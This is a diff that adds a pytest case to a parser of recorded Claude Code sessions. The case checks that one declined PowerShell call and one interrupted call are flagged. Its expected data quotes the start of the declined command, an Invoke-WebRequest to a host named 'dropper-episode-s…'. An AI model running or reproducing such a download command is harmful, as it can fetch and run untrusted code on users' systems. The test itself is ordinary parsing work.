@@ -185,3 +185,18 @@ def test_a_session_longer_than_the_read_limit_is_read_to_the_limit(home, monkeyp
     monkeypatch.setattr(claude, "read_bytes", lambda p: calls_mod.read_bytes(p, 4096))
     s = claude.read(str(path))
     assert s.truncated and len(s.calls) < 4
+
+
+def test_a_real_transcript_marks_the_declined_call_and_the_interrupted_one(tmp_path):
+    """A person's own Claude Code session (tests/fixtures/real/transcripts): they declined one
+    PowerShell call in the permission prompt and interrupted a later turn."""
+    from memory_cli.replay import claude
+
+    s = claude.read(str(Path(__file__).parent / "fixtures" / "real" / "transcripts" / "Azfeel-1.jsonl"))
+    declined = [c for c in s.calls if c.rejected]
+    interrupted = [c for c in s.calls if c.interrupted]
+    assert [(c.tool, c.tool_input["command"][:60]) for c in declined] == [
+        ("PowerShell", 'try { $r = Invoke-WebRequest -Uri "https://dropper-episode-s')
+    ]
+    assert [c.tool for c in interrupted] == ["AskUserQuestion"]
+    assert len(s.calls) == 10 and len(s.prompts) == 11
